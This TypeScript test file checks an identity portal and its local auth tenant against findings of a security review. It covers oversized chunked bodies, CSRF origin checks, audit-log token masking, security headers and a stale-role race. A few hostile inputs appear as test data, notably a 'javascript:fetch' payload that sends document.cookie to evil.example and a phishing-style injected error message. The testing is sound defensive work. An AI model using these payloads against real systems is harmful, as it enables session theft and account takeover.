import { request as httpRequest } from "node:http";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { createOrgInvitation } from "~/services/identity/invitations.server";
import { requireOrgMember } from "~/services/identity/guards.server";
import { changeMemberRole, listMembers, removeMember } from "~/services/identity/memberships.server";
import { selfSignedCertificate } from "../../local-tenant/x509";
import { call, sessionCookieFor } from "../support/auth";
import { HttpBrowser, hiddenInput } from "../../harness/http-browser";
import { addTenantPasswordUser, startTestPortal, type TestPortal } from "../support/portal";
import { managementToken } from "../support/test-application";

/**
 * Findings of the security review of 2026-11-23 (docs/security-review-2026-11-23.md), each
 * against the running portal and local tenant over HTTP, with the database read directly.
 */

let portal: TestPortal;

beforeAll(async () => {
  portal = await startTestPortal();
});

afterAll(async () => {
  await portal?.stop();
});

/** A raw request whose body goes out in chunks (Transfer-Encoding: chunked, no Content-Length). */
function chunkedPost(url: string, headers: Record<string, string>, totalBytes: number): Promise<number> {
  return new Promise((resolve, reject) => {
    const req = httpRequest(url, { method: "POST", headers: { ...headers, "transfer-encoding": "chunked" } });
    req.on("response", (res) => {
      res.resume();
      resolve(res.statusCode ?? 0);
    });
    req.on("error", (err: NodeJS.ErrnoException) => {
      // The server may close the connection before the whole body is written: still refused.
      if (err.code === "EPIPE" || err.code === "ECONNRESET") resolve(-1);
      else reject(err);
    });
    const chunk = Buffer.alloc(64 * 1024, "a");
    let sent = 0;
    const pump = () => {
      while (sent < totalBytes) {
        sent += chunk.length;
        if (!req.write(chunk)) return void req.once("drain", pump);
      }
      req.end();
    };
    pump();
  });
}

describe("hostile bodies", () => {
  it("refuses a chunked body with no Content-Length instead of reading it past the 2 MB cap", async () => {
    const origin = new URL(portal.url).origin;
    const status = await chunkedPost(
      `${portal.url}/auth/logout`,
      { origin, "content-type": "application/x-www-form-urlencoded" },
      3 * 1024 * 1024,
    );
    expect([411, 413, -1]).toContain(status);
    expect(status).not.toBe(302);
  });

  it("still takes an ordinary form post with a Content-Length", async () => {
    const res = await call(portal.url, "/auth/logout", { form: { scope: "this" } });
    expect(res.status).toBe(302);
  });
});

describe("hostile bodies at the local tenant (1 MB cap, chunked or not)", () => {
  it.each([
    ["/oauth/token", "application/x-www-form-urlencoded", [400, -1]],
    ["/oauth/token", "application/json", [400, -1]],
    ["/api/v2/connections", "application/json", [401, 413, 429, -1]],
    // The login pages answer 413 with a page, not a 500 "something went wrong".
    ["/login/callback", "application/x-www-form-urlencoded", [413, -1]],
    ["/u/login?state=x", "application/x-www-form-urlencoded", [413, -1]],
  ])("POST %s (%s) with 2 MB in chunks is refused before it is all read", async (path, type, expected) => {
    const status = await chunkedPost(`${portal.tenant!.url}${path}`, { "content-type": type }, 2 * 1024 * 1024);
    expect(expected).toContain(status);
  });
});

/**
 * Every audit and security-log row's text, with each refused request counted once; the test
 * checks a request added at least one.
 */
async function auditTexts(): Promise<string[]> {
  const rows = await portal.database.db.selectFrom("audit_events").select(["target", "details"]).execute();
  const refusals = await portal.database.db
    .selectFrom("security_events")
    .select(["route", "reason", "count"])
    .execute();
  return [
    ...rows.map((r) => `${r.target ?? ""} ${JSON.stringify(r.details ?? "")}`),
    ...refusals.flatMap((r) => Array.from({ length: r.count }, () => `${r.route} ${r.reason}`)),
  ];
}

describe("setup-link tokens never reach audit rows, whatever the spelling of the path", () => {
  let token: string;
  beforeAll(async () => {
    const db = portal.database.db;
    const alice = await db
      .selectFrom("users")
      .innerJoin("memberships", "memberships.user_id", "users.id")
      .innerJoin("organizations", "organizations.id", "memberships.organization_id")
      .select(["users.id", "users.email", "users.name", "organizations.id as orgId", "organizations.slug"])
      .where("users.email", "=", "alice@acme.test")
      .executeTakeFirstOrThrow();
    ({ token } = await createOrgInvitation(
      {
        kind: "org",
        user: { id: alice.id, email: alice.email, name: alice.name },
        org: { id: alice.orgId, slug: alice.slug, name: "Acme", auth0OrgId: null },
        role: "org_admin",
      },
      { role: "org_viewer" },
    ));
  });

  it.each([
    ["/invites/", "lower case"],
    ["/INVITES/", "upper case (routes match case-insensitively)"],
    ["/Invites/", "mixed case"],
    ["/%69nvites/", "percent-encoded"],
  ])("a cross-site POST to %s<token> (%s) is audited with the token masked", async (prefix) => {
    const before = (await auditTexts()).length;
    const res = await call(portal.url, `${prefix}${token}`, { form: {}, origin: "https://evil.example" });
    expect(res.status).toBe(403);
    const after = await auditTexts();
    expect(after.length).toBeGreaterThan(before);
    for (const t of after) expect(t).not.toContain(token);
  });

  it.each([["/invites/"], ["/INVITES/"], ["/%69nvites/"]])(
    "an anonymous POST to %s<token> is refused (401) and audited with the token masked",
    async (prefix) => {
      const before = (await auditTexts()).length;
      const res = await call(portal.url, `${prefix}${token}`, { form: {} });
      expect(res.status).toBe(401);
      const after = await auditTexts();
      expect(after.length).toBeGreaterThan(before);
      for (const t of after) expect(t).not.toContain(token);
    },
  );
});

describe("the sign-in callback's error page", () => {
  it("does not show an error_description that no sign-in of this browser asked for (content injection)", async () => {
    const text = "Your account is locked. Call +1 555 0100 to unlock it";
    const res = await call(
      portal.url,
      `/auth/callback?error=access_denied&error_description=${encodeURIComponent(text)}&state=forged`,
    );
    expect(res.status).toBe(400);
    expect(res.text).not.toContain("Call +1 555 0100");
  });

  it("shows the tenant's error_description when the answer carries this browser's sign-in state", async () => {
    const start = await call(portal.url, "/auth/login");
    expect(start.status).toBe(302);
    const state = new URL(start.location!).searchParams.get("state")!;
    const loginCookie = start.setCookies.map((c) => c.split(";")[0]).join("; ");
    const res = await call(
      portal.url,
      `/auth/callback?error=access_denied&error_description=${encodeURIComponent("the user is not a member of the organization")}&state=${state}`,
      { cookie: loginCookie },
    );
    expect(res.status).toBe(400);
    expect(res.text).toContain("the user is not a member of the organization");
  });
});

describe("same-origin check: more spellings", () => {
  let alice: string;
  let victor: string;
  beforeAll(async () => {
    alice = await sessionCookieFor(portal.database.db, "alice@acme.test");
    victor = await sessionCookieFor(portal.database.db, "victor@acme.test");
  });
  const form = { intent: "invite", role: "org_admin", maxUses: "1", ttlHours: "72" };

  it.each([
    ["Origin: null (sandboxed frame, data: URL)", { origin: "null" }],
    ["an upper-case Origin", { origin: "" }],
    ["the portal's origin with a trailing slash", { origin: "/" }],
    ["Sec-Fetch-Site: none with no Origin", { origin: null, headers: { "sec-fetch-site": "none" } }],
  ] as const)("refuses %s", async (_label, extra) => {
    let origin: string | null = extra.origin;
    if (origin === "") origin = new URL(portal.url).origin.toUpperCase();
    else if (origin === "/") origin = `${new URL(portal.url).origin}/`;
    const res = await call(portal.url, "/orgs/acme/links", {
      cookie: alice,
      form,
      origin,
      headers: "headers" in extra ? extra.headers : undefined,
    });
    expect(res.status).toBe(403);
  });

  it.each([
    ["a single-fetch action (/orgs/acme/links.data)", "/orgs/acme/links.data"],
    ["a ?_data action", "/orgs/acme/links?_data=routes%2Forgs.%24slug.links"],
    ["a ?index action", "/orgs/acme?index"],
  ])("refuses %s from another site", async (_label, path) => {
    const res = await call(portal.url, path, { cookie: alice, form, origin: "https://evil.example" });
    expect(res.status).toBe(403);
  });

  it("a viewer's single-fetch action is refused server-side (403), not only hidden in the page", async () => {
    const res = await call(portal.url, "/orgs/acme/links.data", { cookie: victor, form });
    expect([403]).toContain(res.status);
  });
});

describe("security headers on every page the local tenant renders", () => {
  const pages = () => [
    ["oidc-provider's error page (unknown client)", "/authorize?client_id=nope&response_type=code&scope=openid"],
    [
      "oidc-provider's error page (callback URL mismatch)",
      `/authorize?client_id=${portal.tenant!.portalClient.clientId}&response_type=code&scope=openid&redirect_uri=${encodeURIComponent("https://evil.example/cb")}`,
    ],
    ["oidc-provider's logout confirmation", "/oidc/logout"],
    ["an unknown route", "/nope"],
    ["universal login (expired)", "/u/login?state=x"],
    ["/v2/logout refusing a returnTo", "/v2/logout?returnTo=https%3A%2F%2Fevil.example"],
  ];

  it("sends frame-ancestors 'none', X-Frame-Options, nosniff and no-referrer everywhere", async () => {
    for (const [label, path] of pages()) {
      const res = await fetch(`${portal.tenant!.url}${path}`, { redirect: "manual" });
      await res.text();
      const where = `${label} (${path})`;
      expect(res.headers.get("content-security-policy"), where).toMatch(/frame-ancestors 'none'/);
      expect(res.headers.get("x-frame-options"), where).toBe("DENY");
      expect(res.headers.get("x-content-type-options"), where).toBe("nosniff");
      expect(res.headers.get("referrer-policy"), where).toBe("no-referrer");
    }
  });

  it("oidc-provider's error pages allow no scripts at all", async () => {
    const res = await fetch(`${portal.tenant!.url}${pages()[0]![1]}`);
    expect(res.headers.get("content-type")).toMatch(/text\/html/);
    expect(res.headers.get("content-security-policy")).toMatch(/default-src 'none'/);
    expect(res.headers.get("content-security-policy")).not.toMatch(/script-src/);
  });
});

describe("vendor roles by e-mail cannot be claimed through an identity the vendor does not control", () => {
  /** Mallory, a tenant user who signs in with the password form; user_id names the connection it stands for. */
  function addTenantUser(userId: string, email: string, emailVerified: boolean, password: string) {
    addTenantPasswordUser(portal, { userId, email, emailVerified, password, name: "Mallory" });
  }

  async function signInAndOpenSupport(email: string, password: string): Promise<number> {
    const browser = new HttpBrowser();
    const login = await browser.follow(`${portal.url}/auth/login?returnTo=%2Fsupport`, () => false);
    const html = await login.res!.text();
    const done = await browser.submit(login.url, { _csrf: hiddenInput(html, "_csrf")!, email, password }, () => false);
    return done.res!.status;
  }

  beforeEach(async () => {
    // Lena (a support lead in local mode, by e-mail) has not signed in to the portal yet.
    const db = portal.database.db;
    const lena = await db.selectFrom("users").select("id").where("email", "=", "lena@vendor.test").executeTakeFirst();
    if (lena) await db.deleteFrom("users").where("id", "=", lena.id).execute(); // sessions etc. cascade
  });

  it("a sign-up with an unverified e-mail of vendor staff gets no support console", async () => {
    addTenantUser("auth0|mallory00000000000000001", "lena@vendor.test", false, "Mallory-Password-1");
    expect(await signInAndOpenSupport("lena@vendor.test", "Mallory-Password-1")).toBe(404);
  });

  it("a customer-managed enterprise connection asserting vendor staff's e-mail gets no support console", async () => {
    addTenantUser("oidc|sso-acme-oidc|mallory", "lena@vendor.test", true, "Mallory-Password-2");
    expect(await signInAndOpenSupport("lena@vendor.test", "Mallory-Password-2")).toBe(404);
  });

  it("positive control: vendor staff signing in with a verified e-mail of the vendor's own connection get it", async () => {
    addTenantUser("auth0|lena0000000000000000001", "lena@vendor.test", true, "Lena-Password-3");
    expect(await signInAndOpenSupport("lena@vendor.test", "Lena-Password-3")).toBe(200);
  });
});

describe("the portal's Content-Security-Policy", () => {
  it("lets forms go only to the portal and the tenant (no https: wildcard, no port wildcard)", async () => {
    for (const path of ["/", "/auth/logout", "/no-such-page", "/invites/not-a-token"]) {
      const res = await fetch(`${portal.url}${path}`, { redirect: "manual" });
      await res.text();
      const csp = res.headers.get("content-security-policy") ?? "";
      const formAction = /form-action ([^;]*)/.exec(csp)?.[1]?.trim().split(/\s+/) ?? [];
      expect(formAction, path).toEqual(["'self'", new URL(portal.tenant!.url).origin]);
      expect(csp, path).toMatch(/frame-ancestors 'none'/);
      expect(csp, path).toMatch(/object-src 'none'/);
    }
  });
});

describe("pages with personal data are not stored by browsers or proxies", () => {
  it("answers a signed-in page and its data route with Cache-Control: no-store", async () => {
    const alice = await sessionCookieFor(portal.database.db, "alice@acme.test");
    for (const path of [
      "/orgs/acme",
      "/orgs/acme.data?_routes=routes%2Forgs.%24slug",
      "/orgs/acme/links",
      "/orgs/acme/audit",
      "/orgs",
      "/auth/logout",
    ]) {
      const res = await fetch(`${portal.url}${path}`, { headers: { cookie: alice }, redirect: "manual" });
      await res.text();
      expect([200, 302], path).toContain(res.status);
      expect(res.headers.get("cache-control") ?? "", path).toMatch(/no-store/);
    }
  });

  it("keeps long caching for built assets", async () => {
    const html = await (await fetch(`${portal.url}/`)).text();
    const asset = /\/assets\/[^"]+\.js/.exec(html)![0];
    const res = await fetch(`${portal.url}${asset}`);
    await res.arrayBuffer();
    expect(res.headers.get("cache-control")).toMatch(/max-age=31536000/);
  });
});

describe("the local tenant never posts a SAML request to a script URL", () => {
  it.each([
    ["HTTP-POST", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"],
    ["HTTP-Redirect", "urn:oasis:names:tc:SAML:2.0:bindings:HTTP-Redirect"],
  ])("a javascript: signInEndpoint (%s binding) is refused, not put in a form action", async (label, binding) => {
    const t = portal.tenant!;
    const name = `evil-saml-${label.toLowerCase()}`;
    const created = await fetch(`${t.managementApiUrl}/connections`, {
      method: "POST",
      headers: { authorization: `Bearer ${await managementToken(portal.tenant!)}`, "content-type": "application/json" },
      body: JSON.stringify({
        name,
        strategy: "samlp",
        options: {
          signInEndpoint: "javascript:fetch('https://evil.example/?'+document.cookie)//",
          signingCert: Buffer.from(selfSignedCertificate("urn:evil").certPem).toString("base64"),
          protocolBinding: binding,
        },
        enabled_clients: [t.testLoginClient.clientId],
      }),
    });
    expect(created.status).toBeLessThan(300);
    const browser = new HttpBrowser();
    const authorize = new URL(`${t.url}/authorize`);
    for (const [k, v] of Object.entries({
      client_id: t.testLoginClient.clientId,
      response_type: "code",
      redirect_uri: `${portal.url}/test-login/callback`,
      scope: "openid",
      state: "s1",
      nonce: "n1",
      connection: name,
    }))
      authorize.searchParams.set(k, v);
    const done = await browser.follow(authorize.href, (url) => url.startsWith(`${portal.url}/test-login/callback`));
    const html = done.res ? await done.res.text() : "";
    expect(html).not.toMatch(/action="javascript:/i);
    expect(done.url.startsWith("javascript:")).toBe(false);
    // The application hears why, as from Auth0.
    expect(done.url.startsWith(`${portal.url}/test-login/callback`)).toBe(true);
    expect(new URL(done.url).searchParams.get("error")).toBe("invalid_request");
  });
});

describe("membership changes re-check the actor inside their transaction", () => {
  it("an administrator demoted while a request was in flight cannot promote themselves back, remove anyone or mint a link", async () => {
    const db = portal.database.db;
    // Each one's scope as the guard gives it to a request of theirs.
    const scopeOf = async (email: string) =>
      requireOrgMember(
        new Request(`${portal.url}/orgs/acme`, { headers: { cookie: await sessionCookieFor(db, email) } }),
        "acme",
      );
    const victor = await scopeOf("victor@acme.test");
    const alice = await scopeOf("alice@acme.test");
    const roleOf = async (email: string) => (await listMembers(alice)).find((m) => m.email === email)?.role;
    expect(victor.role).toBe("org_viewer");
    // The scope Victor's request got from its guard when he was still an administrator.
    const stale = { ...victor, role: "org_admin" as const };
    expect((await changeMemberRole(stale, victor.user.id, "org_admin")).ok).toBe(false);
    expect((await removeMember(stale, alice.user.id)).ok).toBe(false);
    const links = await db.selectFrom("invitations").select("id").execute();
    const refused = await createOrgInvitation(stale, { role: "org_admin" }).catch((err: unknown) => err);
    expect(refused).toBeInstanceOf(Response);
    expect((refused as Response).status).toBe(403);
    expect(await db.selectFrom("invitations").select("id").execute()).toHaveLength(links.length);
    expect(await roleOf("victor@acme.test")).toBe("org_viewer");
    expect(await roleOf("alice@acme.test")).toBe("org_admin");
  });
});
